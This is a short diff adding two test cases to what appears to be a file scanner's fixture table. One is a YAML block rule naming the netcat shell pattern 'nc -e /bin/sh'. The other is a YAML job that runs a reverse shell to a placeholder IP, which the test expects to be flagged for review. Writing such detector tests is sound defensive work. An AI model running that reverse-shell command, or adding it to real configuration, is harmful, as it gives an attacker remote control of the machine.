@@ -291,4 +291,6 @@ CASES = {
         "package.json",
         Verdict.CLEAN,
     ),
+    "benign_filter": text('rules:\n  - keyword: "nc -e /bin/sh"\n    action: block\n', "filter.yaml", Verdict.CLEAN),
+    "settings_that_run": text('jobs:\n  - run: "nc -e /bin/sh 192.0.2.1 9"\n', "filter.yaml", Verdict.REVIEW),
 }
